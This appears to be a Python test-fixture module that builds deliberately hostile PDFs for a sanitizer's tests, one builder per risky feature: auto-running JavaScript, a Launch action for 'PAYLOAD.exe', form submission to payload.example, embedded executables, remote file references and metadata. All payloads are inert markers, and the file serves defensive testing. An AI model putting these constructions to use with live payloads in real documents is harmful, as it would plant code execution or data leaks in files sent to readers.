"""Hostile PDFs, each with one feature that must not survive. Every payload carries the word PAYLOAD; all are inert."""

from __future__ import annotations

import io
from collections.abc import Callable
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from reportlab.pdfgen.canvas import Canvas

Feature = Callable[[Pdf], None]
FEATURES: dict[str, Feature] = {}


def ordinary(pages: int = 2, *, lines: int = 12) -> bytes:
    """Print pages of plain text."""
    result = io.BytesIO()
    canvas = Canvas(result, invariant=1)
    for page in range(1, pages + 1):
        for line in range(lines):
            canvas.drawString(72, 780 - 14 * line, f"Side {page}, linje {line + 1}: en ganske vanlig setning.")
        canvas.showPage()
    canvas.save()
    return result.getvalue()


def with_feature(*names: str, hidden: bool = False) -> bytes:
    """Add features to two ordinary pages; `hidden` packs every object into object streams."""
    mode = pikepdf.ObjectStreamMode.generate if hidden else pikepdf.ObjectStreamMode.disable
    with pikepdf.open(io.BytesIO(ordinary())) as pdf:
        for name in names:
            FEATURES[name](pdf)
        return saved(pdf, object_stream_mode=mode)


def saved(pdf: Pdf, **how: Any) -> bytes:
    """Write a PDF to bytes."""
    result = io.BytesIO()
    pdf.save(result, **how)
    return result.getvalue()


def feature(add: Feature) -> Feature:
    """Enter a builder under its name."""
    FEATURES[add.__name__] = add
    return add


def script() -> Dictionary:
    """Make an action that runs a script."""
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('PAYLOAD')"))


def annotate(pdf: Pdf, **entries: Any) -> pikepdf.Object:
    """Put an annotation on the first page."""
    annotation = pdf.make_indirect(Dictionary(Type=Name.Annot, Rect=Array([10, 10, 90, 30]), **entries))
    page = pdf.pages[0].obj
    if "/Annots" not in page:
        page.Annots = Array()
    page.Annots.append(annotation)
    return annotation


def link(pdf: Pdf, **action: Any) -> None:
    """Put a link with an action on the first page."""
    annotate(pdf, Subtype=Name.Link, A=Dictionary(**action))


def filespec(pdf: Pdf) -> pikepdf.Object:
    """Make an embedded file."""
    inside = Stream(pdf, b"MZ PAYLOAD")
    inside.Type = Name.EmbeddedFile
    name = String("PAYLOAD.exe")
    return pdf.make_indirect(Dictionary(Type=Name.Filespec, F=name, UF=name, EF=Dictionary(F=inside)))


def field(pdf: Pdf, **entries: Any) -> pikepdf.Object:
    """Put a form field on the first page."""
    widget = annotate(pdf, Subtype=Name.Widget, T=String("felt"), **entries)
    if "/AcroForm" not in pdf.Root:
        pdf.Root.AcroForm = Dictionary(Fields=Array())
    pdf.Root.AcroForm.Fields.append(widget)
    return widget


@feature
def script_on_opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = script()


@feature
def script_in_a_stream_on_opening(pdf: Pdf) -> None:
    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(S=Name.JavaScript, JS=Stream(pdf, b"PAYLOAD()")))


@feature
def script_on_closing(pdf: Pdf) -> None:
    pdf.Root.AA = Dictionary(WC=script())


@feature
def script_on_turning_a_page(pdf: Pdf) -> None:
    pdf.pages[1].obj.AA = Dictionary(O=pdf.make_indirect(script()))


@feature
def script_in_a_nested_name_tree(pdf: Pdf) -> None:
    leaf = pdf.make_indirect(Dictionary(Names=Array([String("a"), pdf.make_indirect(script())])))
    branch = pdf.make_indirect(Dictionary(Kids=Array([leaf])))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Kids=Array([branch])))


@feature
def script_behind_a_bookmark(pdf: Pdf) -> None:
    item = pdf.make_indirect(Dictionary(Title=String("Kapittel 1"), A=script()))
    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=item, Last=item, Count=1))
    item.Parent = pdf.Root.Outlines


@feature
def script_in_a_keystroke_of_a_field(pdf: Pdf) -> None:
    field(pdf, FT=Name.Tx, V=String("verdi"), AA=Dictionary(K=script()))


@feature
def script_in_a_field_without_a_widget(pdf: Pdf) -> None:
    field(pdf, FT=Name.Tx)
    child = pdf.make_indirect(Dictionary(T=String("barn"), AA=Dictionary(C=script())))
    parent = pdf.make_indirect(Dictionary(T=String("mor"), FT=Name.Tx, Kids=Array([child])))
    pdf.Root.AcroForm.Fields.append(parent)


@feature
def script_after_an_innocent_jump(pdf: Pdf) -> None:
    jump = Array([pdf.pages[1].obj, Name.Fit])
    link(pdf, S=Name.GoTo, D=jump, Next=Array([script()]))


@feature
def script_in_an_annotation_that_also_poses_as_fonts(pdf: Pdf) -> None:
    annotation = annotate(pdf, Subtype=Name.Text, Contents=String("Hei"), AA=Dictionary(E=script()))
    pdf.pages[0].obj.Resources.Font = annotation
    pdf.pages[1].obj.Resources.Font = annotation


@feature
def script_reached_through_the_structure_tree_only(pdf: Pdf) -> None:
    gone = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Screen, Rect=Array([0, 0, 1, 1])))
    gone.A = script()
    element = Dictionary(Type=Name.StructElem, S=Name.Link, K=Dictionary(Type=Name.OBJR, Obj=gone))
    pdf.Root.StructTreeRoot = Dictionary(Type=Name.StructTreeRoot, K=pdf.make_indirect(element))


@feature
def program_started_by_a_link(pdf: Pdf) -> None:
    link(pdf, S=Name.Launch, F=String("PAYLOAD.exe"), Win=Dictionary(F=String("PAYLOAD.exe")))


@feature
def form_sent_by_a_button(pdf: Pdf) -> None:
    send = Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F=String("https://payload.example/PAYLOAD")))
    field(pdf, FT=Name.Btn, Ff=65536, A=send)


@feature
def form_filled_from_a_file(pdf: Pdf) -> None:
    field(pdf, FT=Name.Btn, Ff=65536, A=Dictionary(S=Name.ImportData, F=String("PAYLOAD.fdf")))


@feature
def form_program(pdf: Pdf) -> None:
    field(pdf, FT=Name.Tx)
    pdf.Root.AcroForm.XFA = Array([String("template"), Stream(pdf, b"<template>PAYLOAD</template>")])


@feature
def link_to_another_file(pdf: Pdf) -> None:
    link(pdf, S=Name.GoToR, F=String("//server/PAYLOAD.pdf"), D=Array([0, Name.Fit]))


@feature
def link_into_an_embedded_file(pdf: Pdf) -> None:
    link(pdf, S=Name.GoToE, T=Dictionary(R=Name.C, N=String("PAYLOAD")), D=Array([0, Name.Fit]))


@feature
def link_to_the_web(pdf: Pdf) -> None:
    link(pdf, S=Name.URI, URI=String("https://payload.example/PAYLOAD"))


@feature
def base_address_for_links(pdf: Pdf) -> None:
    pdf.Root.URI = Dictionary(Base=String("https://payload.example/PAYLOAD"))


@feature
def printing_by_a_named_action(pdf: Pdf) -> None:
    link(pdf, S=Name.Named, N=Name.Print, Job=String("PAYLOAD"))


@feature
def embedded_file(pdf: Pdf) -> None:
    tree = Dictionary(Names=Array([String("PAYLOAD.exe"), filespec(pdf)]))
    pdf.Root.Names = Dictionary(EmbeddedFiles=tree)


@feature
def associated_file_of_the_document(pdf: Pdf) -> None:
    pdf.Root.AF = Array([filespec(pdf)])


@feature
def associated_file_of_a_page_resource(pdf: Pdf) -> None:
    drawing = Stream(pdf, b"")
    drawing.stream_dict = Dictionary(Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]))
    drawing.AF = filespec(pdf)
    pdf.pages[0].obj.Resources.XObject = Dictionary(Fm1=drawing)


@feature
def file_attached_to_a_page(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.FileAttachment, FS=filespec(pdf))


@feature
def portfolio(pdf: Pdf) -> None:
    pdf.Root.Collection = Dictionary(Type=Name.Collection, D=String("PAYLOAD"))


@feature
def film_with_flash(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.RichMedia, RichMediaContent=Dictionary(Assets=Dictionary(Names=Array([filespec(pdf)]))))


@feature
def film_on_a_screen(pdf: Pdf) -> None:
    play = Dictionary(S=Name.Rendition, JS=String("PAYLOAD"), OP=0, R=Dictionary(S=Name.MR, N=String("PAYLOAD")))
    annotate(pdf, Subtype=Name.Screen, A=play)


@feature
def film_of_the_old_kind(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.Movie, Movie=Dictionary(F=String("PAYLOAD.avi")))


@feature
def sound(pdf: Pdf) -> None:
    noise = Stream(pdf, b"PAYLOAD")
    noise.stream_dict = Dictionary(Type=Name.Sound, R=8000)
    annotate(pdf, Subtype=Name.Sound, Sound=noise)


@feature
def model_in_three_dimensions(pdf: Pdf) -> None:
    model = Stream(pdf, b"PAYLOAD")
    model.stream_dict = Dictionary({"/Type": Name("/3D"), "/Subtype": Name.U3D, "/OnInstantiate": String("PAYLOAD")})
    annotate(pdf, Subtype=Name("/3D"))["/3DD"] = model


@feature
def stream_kept_in_another_file(pdf: Pdf) -> None:
    elsewhere = Stream(pdf, b"PAYLOAD")
    elsewhere.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, 1, 1]), F=String("//server/PAYLOAD"), FFilter=Name.Fl
    )
    pdf.pages[0].obj.Resources.XObject = Dictionary(Fm0=elsewhere)


@feature
def page_of_another_file(pdf: Pdf) -> None:
    reference = Stream(pdf, b"")
    reference.stream_dict = Dictionary(
        Type=Name.XObject,
        Subtype=Name.Form,
        BBox=Array([0, 0, 1, 1]),
        Ref=Dictionary(F=String("//server/PAYLOAD.pdf"), Page=0),
    )
    pdf.pages[0].obj.Resources.XObject = Dictionary(Fm2=reference)


@feature
def picture_fetched_at_print(pdf: Pdf) -> None:
    picture = Stream(pdf, b"\0")
    picture.stream_dict = Dictionary(
        Type=Name.XObject, Subtype=Name.Image, Width=1, Height=1, BitsPerComponent=8, ColorSpace=Name.DeviceGray
    )
    picture.OPI = Dictionary({"/2.0": Dictionary(F=String("//server/PAYLOAD.tif"))})
    picture.Alternates = Array([Dictionary(Image=Stream(pdf, b"PAYLOAD"))])
    pdf.pages[0].obj.Resources.XObject = Dictionary(Im1=picture)


@feature
def postscript(pdf: Pdf) -> None:
    program = Stream(pdf, b"(PAYLOAD) run")
    program.stream_dict = Dictionary(Type=Name.XObject, Subtype=Name.PS)
    pdf.pages[1].obj.Resources.XObject = Dictionary(Ps1=program)


@feature
def signature_with_a_name(pdf: Pdf) -> None:
    signed = Dictionary(
        Type=Name.Sig, Name=String("PAYLOAD"), Contents=String("PAYLOAD"), ByteRange=Array([0, 1, 2, 3])
    )
    field(pdf, FT=Name.Sig, V=pdf.make_indirect(signed))
    pdf.Root.Perms = Dictionary(DocMDP=signed)


@feature
def author_in_the_metadata(pdf: Pdf) -> None:
    xmp = Stream(pdf, b"<x:xmpmeta>PAYLOAD</x:xmpmeta>")
    xmp.stream_dict = Dictionary(Type=Name.Metadata, Subtype=Name.XML)
    pdf.Root.Metadata = xmp
    pdf.pages[0].obj.Metadata = xmp
    pdf.docinfo["/Author"] = String("PAYLOAD")


@feature
def author_of_a_note(pdf: Pdf) -> None:
    annotate(
        pdf, Subtype=Name.Text, T=String("PAYLOAD"), NM=String("PAYLOAD"), M=String("PAYLOAD"), Contents=String("Obs")
    )


@feature
def leftovers_of_the_authors_program(pdf: Pdf) -> None:
    pdf.Root.PieceInfo = Dictionary(Writer=Dictionary(Private=String("PAYLOAD")))
    pdf.pages[0].obj.PieceInfo = Dictionary(Writer=Dictionary(Private=Stream(pdf, b"PAYLOAD")))


@feature
def thumbnail(pdf: Pdf) -> None:
    pdf.pages[0].obj.Thumb = Stream(pdf, b"PAYLOAD")


@feature
def unknown_things_in_catalog_page_and_trailer(pdf: Pdf) -> None:
    pdf.Root["/NewIn2031"] = Dictionary(Do=String("PAYLOAD"))
    pdf.pages[0].obj["/NewIn2031"] = Dictionary(Do=String("PAYLOAD"))
    pdf.trailer["/NewIn2031"] = pdf.make_indirect(Dictionary(Do=String("PAYLOAD")))


@feature
def unknown_annotation_with_an_unknown_action(pdf: Pdf) -> None:
    annotate(pdf, Subtype=Name.Hologram, A=Dictionary(S=Name.Beam, To=String("PAYLOAD")))
    annotate(pdf, Subtype=Name.Link, A=Dictionary(S=Name.Beam, To=String("PAYLOAD")))
